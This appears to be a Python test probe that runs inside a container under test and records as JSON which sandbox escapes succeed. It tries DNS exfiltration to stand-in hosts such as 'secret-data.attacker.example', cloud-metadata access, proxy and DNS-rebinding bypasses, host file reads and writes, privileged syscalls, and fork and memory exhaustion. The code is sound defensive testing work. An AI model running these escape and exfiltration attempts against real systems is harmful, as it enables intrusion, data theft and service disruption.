"""Runs INSIDE a container under test and reports what the process can really do, as JSON.

Stdlib only; every check tries the thing rather than trusting configuration."""

import ctypes
import errno
import json
import os
import signal
import socket
import struct
import sys
import time
import urllib.request

CLONE_NEWUSER = 0x10000000


def status(field):
    with open("/proc/self/status") as handle:
        for line in handle:
            if line.startswith(field + ":"):
                return line.split(":", 1)[1].strip()
    return None


def writable(path):
    probe = os.path.join(path, ".mcp-lok-probe")
    try:
        with open(probe, "w") as handle:
            handle.write("x")
    except OSError:
        return False
    os.unlink(probe)
    return True


def read_first(path):
    try:
        with open(path) as handle:
            return handle.read().strip()
    except OSError as error:
        return f"error: {error.strerror}"


def mount_options():
    """Mount point → its per-mount options, from /proc/self/mountinfo."""
    options = {}
    with open("/proc/self/mountinfo") as handle:
        for line in handle:
            fields = line.split()
            options[fields[4]] = fields[5].split(",")
    return options


def main(paths):
    libc = ctypes.CDLL(None, use_errno=True)
    unshare_ok = libc.unshare(CLONE_NEWUSER) == 0
    report = {
        "uid": os.getuid(),
        "gid": os.getgid(),
        "cap_eff": status("CapEff"),
        "no_new_privs": status("NoNewPrivs"),
        "seccomp": status("Seccomp"),
        "root_writable": writable("/"),
        "interfaces": sorted(os.listdir("/sys/class/net")),
        "unshare_user_ns": unshare_ok,
        "unshare_errno": ctypes.get_errno(),
        "memory_max": read_first("/sys/fs/cgroup/memory.max")
        if os.path.exists("/sys/fs/cgroup/memory.max")
        else read_first("/sys/fs/cgroup/memory/memory.limit_in_bytes"),
        "pids_max": read_first("/sys/fs/cgroup/pids.max")
        if os.path.exists("/sys/fs/cgroup/pids.max")
        else read_first("/sys/fs/cgroup/pids/pids.max"),
        "paths": {},
        "scratch": {},
    }
    mounts = mount_options()
    for path in ("/tmp", "/run", "/var/tmp"):
        report["scratch"][path] = {
            "writable": writable(path) if os.path.isdir(path) else False,
            "options": mounts.get(path),
        }
    for path in paths:
        entry = {"exists": os.path.exists(path)}
        if os.path.isdir(path):
            entry["entries"] = sorted(os.listdir(path))
            entry["writable"] = writable(path)
        elif os.path.isfile(path):
            entry["content"] = read_first(path)
        report["paths"][path] = entry
    print(json.dumps(report, sort_keys=True))


def report_into(path, paths):
    """`probe.py --into FILE PATH...`: the report `main` prints, written to FILE (in a write
    mount) instead, for a server that `mcp-lok start` runs and whose output nobody reads."""
    import contextlib
    import io

    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        main(paths)
    with open(path + ".tmp", "w") as handle:
        handle.write(out.getvalue())
    os.rename(path + ".tmp", path)


# --- the attacker: `probe.py --attack SPEC_JSON` -------------------------------------------
# Tries every way out of the container that the escape matrix lists and records, for each,
# what happened. It never decides pass or fail itself: the test reads the report.

TIMEOUT = 3.0
AF_PACKET = 17
CLONE_NEWNS, CLONE_NEWNET = 0x00020000, 0x40000000
PTRACE_ATTACH = 16


def attempt(action):
    """("ok", result) or ("error", what went wrong), never an exception."""
    try:
        return ["ok", action()]
    except Exception as error:  # the report says what failed; nothing escapes the probe
        return ["error", f"{type(error).__name__}: {error}"]


def tcp_talk(host, port, send=b"", family=0):
    infos = socket.getaddrinfo(host, port, family, socket.SOCK_STREAM)
    with socket.socket(infos[0][0], socket.SOCK_STREAM) as conn:
        conn.settimeout(TIMEOUT)
        conn.connect(infos[0][4])
        if send:
            conn.sendall(send)
        return conn.recv(4096).decode(errors="replace")


def udp_talk(host, port, send=b"ping"):
    infos = socket.getaddrinfo(host, port, 0, socket.SOCK_DGRAM)
    with socket.socket(infos[0][0], socket.SOCK_DGRAM) as conn:
        conn.settimeout(TIMEOUT)
        conn.connect(infos[0][4])
        conn.send(send)
        return conn.recv(4096).decode(errors="replace")


def via_proxy(url):
    """A plain GET through the proxy the environment announces (HTTP_PROXY)."""
    with urllib.request.urlopen(url, timeout=TIMEOUT) as answer:
        return answer.read().decode(errors="replace")


def no_proxy(url):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    with opener.open(url, timeout=TIMEOUT) as answer:
        return answer.read().decode(errors="replace")


def connect_through_proxy(host, port, send=b"hello\n"):
    """CONNECT host:port through 127.0.0.1:3128; the proxy's status line, then the reply."""
    with socket.create_connection(("127.0.0.1", 3128), timeout=TIMEOUT) as conn:
        target = f"[{host}]" if ":" in host else host
        conn.sendall(f"CONNECT {target}:{port} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        head = conn.recv(4096).decode(errors="replace")
        status = head.split("\r\n", 1)[0]
        if " 200 " not in status:
            return status
        conn.sendall(send)
        return status + " | " + conn.recv(4096).decode(errors="replace")


def dns_query(name, server="127.0.0.53", port=53):
    """A raw DNS A query; the answer's rcode and address count."""
    question = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    packet = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + question + b"\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as conn:
        conn.settimeout(TIMEOUT)
        conn.sendto(packet, (server, port))
        answer = conn.recv(4096)
    return {"rcode": answer[3] & 0xF, "answers": struct.unpack("!H", answer[6:8])[0]}


def read_text(path):
    with open(path) as handle:
        return handle.read()


def ipv6_devices():
    """The devices IPv6 routes lead to."""
    with open("/proc/net/ipv6_route") as table:
        return sorted({route.split()[-1] for route in table})


def unix_sockets():
    """Every Unix socket this network namespace holds (the gate's included), as listed."""
    found = []
    with open("/proc/net/unix") as table:
        for line in list(table)[1:]:
            fields = line.split()
            if len(fields) >= 8:
                found.append(fields[7])
    return sorted(set(found))


def unix_connect(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
        conn.settimeout(TIMEOUT)
        conn.connect("\0" + path[1:] if path.startswith("@") else path)
        return "connected"


def write_file(folder):
    path = os.path.join(folder, ".mcp-lok-escape")
    with open(path, "w") as handle:
        handle.write("x")
    os.unlink(path)
    return "written"


def setuid_euids():
    """Start each setuid-root binary, read its effective uid while it runs, stop it."""
    seen = {}
    for name in ("su", "passwd", "newgrp", "chsh", "mount"):
        path = f"/usr/bin/{name}"
        if not os.path.exists(path) or not os.stat(path).st_mode & 0o4000:
            continue
        read_fd, write_fd = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.dup2(read_fd, 0)
            os.execv(path, [path])
        os.close(read_fd)
        euid = None
        for _ in range(20):
            try:
                with open(f"/proc/{pid}/status") as table:
                    line = next(x for x in table if x.startswith("Uid:"))
                euid = int(line.split()[2])
                if os.readlink(f"/proc/{pid}/exe").endswith(name):
                    break
            except (OSError, StopIteration):
                pass
            time.sleep(0.02)
        seen[name] = euid
        os.close(write_fd)
        with contextlib_suppress():
            os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return seen


class contextlib_suppress:
    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return exc[0] is not None and issubclass(exc[0], OSError)


def syscalls():
    libc = ctypes.CDLL(None, use_errno=True)
    found = {}
    os.makedirs("/tmp/mnt", exist_ok=True)
    for name, call in (
        ("mount", lambda: libc.mount(b"none", b"/tmp/mnt", b"tmpfs", 0, None)),
        ("unshare_user", lambda: libc.unshare(CLONE_NEWUSER)),
        ("unshare_mount", lambda: libc.unshare(CLONE_NEWNS)),
        ("unshare_net", lambda: libc.unshare(CLONE_NEWNET)),
        ("ptrace_init", lambda: libc.ptrace(PTRACE_ATTACH, 1, None, None)),
    ):
        ctypes.set_errno(0)
        result = call()
        found[name] = {"result": result, "errno": errno.errorcode.get(ctypes.get_errno(), "0")}
    for name, args in (
        ("raw_icmp", (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
        ("packet", (AF_PACKET, socket.SOCK_RAW, 0)),
    ):
        found[name] = attempt(lambda args=args: socket.socket(*args).close() or "opened")
    return found


def exhaust_pids(limit):
    """Fork sleeping children until the kernel refuses; how many there were."""
    children = []
    refused = None
    for _ in range(limit + 16):
        try:
            pid = os.fork()
        except OSError as error:
            refused = errno.errorcode.get(error.errno, str(error.errno))
            break
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return {"forked": len(children), "refused": refused}


def exhaust_memory(limit_bytes):
    """A child touches twice the memory limit; how it ended."""
    pid = os.fork()
    if pid == 0:
        hoard = []
        try:
            for _ in range(2 * limit_bytes // (16 << 20)):
                hoard.append(bytearray(16 << 20))
        except MemoryError:
            os._exit(3)
        os._exit(0)
    _, status = os.waitpid(pid, 0)
    if os.WIFSIGNALED(status):
        return {"signal": os.WTERMSIG(status)}
    return {"exit": os.WEXITSTATUS(status)}


def network_attempts(spec):
    allowed, port = spec.get("allowed"), spec["host_port"]
    report = {
        "interfaces": sorted(os.listdir("/sys/class/net")),
        "resolv": read_first("/etc/resolv.conf"),
        "resolve_arbitrary": attempt(lambda: socket.gethostbyname("exfil-1234.example.com")),
        "dns_arbitrary": attempt(lambda: dns_query("secret-data.attacker.example")),
        "dns_outside": attempt(lambda: dns_query("example.com", "8.8.8.8")),
        "metadata": attempt(lambda: tcp_talk("169.254.169.254", 80, b"GET / HTTP/1.0\r\n\r\n")),
        "metadata_proxy": attempt(lambda: connect_through_proxy("169.254.169.254", 80)),
        "ipv6_routes": attempt(ipv6_devices),
        "ipv6_out": attempt(lambda: tcp_talk("2001:db8::1", 80, family=socket.AF_INET6)),
        "service_direct": attempt(lambda: tcp_talk(spec["service_address"], 80, b"x")),
        "host_addresses": {},
        "other_server": {},
    }
    for address in spec["host_addresses"]:
        report["host_addresses"][address] = {
            "direct": attempt(lambda a=address: tcp_talk(a, port, b"x")),
            "proxy": attempt(lambda a=address: connect_through_proxy(a, port)),
        }
    for address in ["127.0.0.1", *spec["host_addresses"]]:
        url = f"http://{'[' + address + ']' if ':' in address else address}:{spec['other_port']}"
        report["other_server"][address] = {
            "direct": attempt(lambda u=url: no_proxy(u + "/health")),
            "proxy": attempt(lambda u=url: via_proxy(u + "/health")),
        }
    if allowed:
        report |= allowed_attempts(spec)
    return report


def allowed_attempts(spec):
    name, tcp_only, rebind = spec["allowed"], spec["tcp_only"], spec["rebind"]
    return {
        "resolve_allowed": attempt(lambda: socket.gethostbyname(name)),
        "by_proxy": attempt(lambda: via_proxy(f"http://{name}/")),
        "by_connect": attempt(lambda: connect_through_proxy(name, 443, b"hello\n")),
        "plain_tcp": attempt(lambda: no_proxy(f"http://{name}/")),
        "non_http": attempt(lambda: tcp_talk(name, 443, b"hello\n")),
        "udp_allowed": attempt(lambda: udp_talk(name, 443)),
        "localhost": attempt(lambda: local_echo()),
        "not_allowed_port": attempt(lambda: tcp_talk(name, 8000, b"GET / HTTP/1.0\r\n\r\n")),
        "not_allowed_port_proxy": attempt(lambda: connect_through_proxy(name, 8000)),
        "not_allowed_host_proxy": attempt(lambda: via_proxy("http://not-allowed.test/")),
        "not_allowed_address": attempt(lambda: tcp_talk(spec["service_address"], 8000, b"x")),
        "not_allowed_address_proxy": attempt(
            lambda: connect_through_proxy(spec["service_address"], 8000)
        ),
        "udp_tcp_only": attempt(lambda: udp_talk(tcp_only, 7000)),
        "tcp_only_works": attempt(lambda: tcp_talk(tcp_only, 7000, b"hello\n")),
        "rebind_direct": attempt(lambda: tcp_talk(rebind, 80, b"GET / HTTP/1.0\r\n\r\n")),
        "rebind_proxy": attempt(lambda: via_proxy(f"http://{rebind}/")),
        "wildcard_first": attempt(lambda: socket.gethostbyname(spec["wildcard"][0])),
        "wildcard_second": attempt(lambda: socket.gethostbyname(spec["wildcard"][1])),
        "wildcard_talk": attempt(lambda: tcp_talk(spec["wildcard"][0], 443, b"wild\n")),
        "wildcard_suffix": attempt(lambda: socket.gethostbyname(spec["wildcard"][2])),
    }


def local_echo():
    """`localhost` is the namespace's own loopback: a listener here answers a dial here."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        with socket.create_connection(("localhost", port), timeout=TIMEOUT) as conn:
            peer, _ = server.accept()
            with peer:
                peer.sendall(b"local")
                return conn.recv(16).decode()


def isolation_attempts(spec):
    report = {
        "gate_sockets": {p: attempt(lambda p=p: unix_connect(p)) for p in spec["sockets"]},
        "listed_sockets": {},
        "writes": {p: attempt(lambda p=p: write_file(p)) for p in spec["write_tries"]},
        "host_read": {p: attempt(lambda p=p: read_text(p)) for p in spec["read_tries"]},
        "setuid": attempt(setuid_euids),
        "syscalls": syscalls(),
        "uid": os.getuid(),
        "no_new_privs": status("NoNewPrivs"),
    }
    listed = attempt(unix_sockets)
    report["listed"] = listed
    if listed[0] == "ok":
        for path in listed[1]:
            report["listed_sockets"][path] = attempt(lambda p=path: unix_connect(p))
    return report


def attack(spec):
    report = network_attempts(spec)
    report |= isolation_attempts(spec)
    if spec.get("exhaust"):
        report["pids"] = exhaust_pids(spec["pids_limit"])
        report["memory"] = exhaust_memory(spec["memory_limit"])
        if spec.get("allowed"):
            report["after_exhaustion"] = attempt(lambda: tcp_talk(spec["allowed"], 443, b"again\n"))
    report["done"] = True
    with open(os.path.join(spec["out"], "report.json.tmp"), "w") as handle:
        json.dump(report, handle, sort_keys=True)
    os.rename(
        os.path.join(spec["out"], "report.json.tmp"), os.path.join(spec["out"], "report.json")
    )
    print("probe: report written", file=sys.stderr, flush=True)
    if spec.get("allowed"):
        second_round(spec)


def second_round(spec):
    """Wait (bounded) for the test to take mcp-lok's host process away, then try the
    allowed destination again: with nobody relaying, nothing may get through."""
    go = os.path.join(spec["out"], "go")
    deadline = time.monotonic() + 120
    while not os.path.exists(go) and time.monotonic() < deadline:
        time.sleep(0.2)
    name = spec["allowed"]
    after = {
        "plain_tcp": attempt(lambda: tcp_talk(name, 443, b"hello\n")),
        "by_connect": attempt(lambda: connect_through_proxy(name, 443, b"hello\n")),
        "waited": os.path.exists(go),
    }
    path = os.path.join(spec["out"], "after.json")
    with open(path + ".tmp", "w") as handle:
        json.dump(after, handle, sort_keys=True)
    os.rename(path + ".tmp", path)


# --- `probe.py --addresses SPEC_JSON`: every way to the host's loopback (issue 11) ---------


def proxied_get(url):
    """A plain GET through the proxy, sent by hand (urllib refuses some of these hosts)."""
    with socket.create_connection(("127.0.0.1", 3128), timeout=TIMEOUT) as conn:
        conn.sendall(f"GET {url} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        return conn.recv(4096).decode(errors="replace")


def address_attempts(spec):
    """Try the host's loopback service every way: CONNECT and GET through the proxy with
    every spelling, names the host resolves to loopback, and directly. Writes
    addresses.json into the write mount."""
    port = spec["port"]
    report = {"connect": {}, "get": {}, "names": {}, "direct": {}}
    for target in spec["connect"]:
        report["connect"][target] = attempt(lambda t=target: connect_through_proxy(t, port))
    for host in spec["get"]:
        url = f"http://{host}:{port}/"
        report["get"][host] = attempt(lambda u=url: proxied_get(u))
    for name in spec["names"]:
        report["names"][name] = {
            "tcp": attempt(lambda n=name: tcp_talk(n, port, b"x")),
            "connect": attempt(lambda n=name: connect_through_proxy(n, port)),
        }
    for address in spec["direct"]:
        report["direct"][address] = attempt(lambda a=address: tcp_talk(a, port, b"x"))
    report["done"] = True
    path = os.path.join(spec["out"], "addresses.json")
    with open(path + ".tmp", "w") as handle:
        json.dump(report, handle, sort_keys=True)
    os.rename(path + ".tmp", path)
    print("probe: address report written", file=sys.stderr, flush=True)
    time.sleep(spec.get("linger", 0))


# --- `probe.py --rounds SPEC_JSON`: a server that fails once, for `--restart on-failure` ------


def restart_rounds(spec):
    """Each start of the container tries the allowed destination every way and a few that
    must stay refused, and writes round-N.json into the write mount, which outlives the
    process. The first start then waits (bounded) for the test's order and exits 1, so that
    mcp-lok starts the container again; a later start stays up (bounded) until removed."""
    out, name = spec["out"], spec["allowed"]
    number = 1 + len([f for f in os.listdir(out) if f.startswith("round-")])
    found = {
        "netns": os.readlink("/proc/self/ns/net"),
        "interfaces": sorted(os.listdir("/sys/class/net")),
        "resolv": read_first("/etc/resolv.conf"),
        "resolve_allowed": attempt(lambda: socket.gethostbyname(name)),
        "by_proxy": attempt(lambda: via_proxy(f"http://{name}/")),
        "by_connect": attempt(lambda: connect_through_proxy(name, 443, b"hello\n")),
        "plain_tcp": attempt(lambda: no_proxy(f"http://{name}/")),
        "non_http": attempt(lambda: tcp_talk(name, 443, b"hello\n")),
        "resolve_arbitrary": attempt(lambda: socket.gethostbyname("exfil-5678.example.com")),
        "not_allowed_host_proxy": attempt(lambda: via_proxy("http://not-allowed.test/")),
        "not_allowed_address": attempt(lambda: tcp_talk(spec["service_address"], 8000, b"x")),
        "not_allowed_port": attempt(lambda: tcp_talk(name, 8000, b"GET / HTTP/1.0\r\n\r\n")),
        "not_allowed_port_proxy": attempt(lambda: connect_through_proxy(name, 8000)),
    }
    path = os.path.join(out, f"round-{number}.json")
    with open(path + ".tmp", "w") as handle:
        json.dump(found, handle, sort_keys=True)
    os.rename(path + ".tmp", path)
    print(f"probe: round {number} written", file=sys.stderr, flush=True)
    order = os.path.join(out, "fail" if number == 1 else "end")
    deadline = time.monotonic() + spec["linger"]
    while not os.path.exists(order) and time.monotonic() < deadline:
        time.sleep(0.2)
    if number == 1 and os.path.exists(order):
        print("probe: failing on order", file=sys.stderr, flush=True)
        sys.exit(1)


if __name__ == "__main__":
    if sys.argv[1:2] == ["--attack"]:
        attack(json.loads(sys.argv[2]))
    elif sys.argv[1:2] == ["--addresses"]:
        address_attempts(json.loads(sys.argv[2]))
    elif sys.argv[1:2] == ["--rounds"]:
        restart_rounds(json.loads(sys.argv[2]))
    elif sys.argv[1:2] == ["--into"]:
        report_into(sys.argv[2], sys.argv[3:])
    else:
        main(sys.argv[1:])
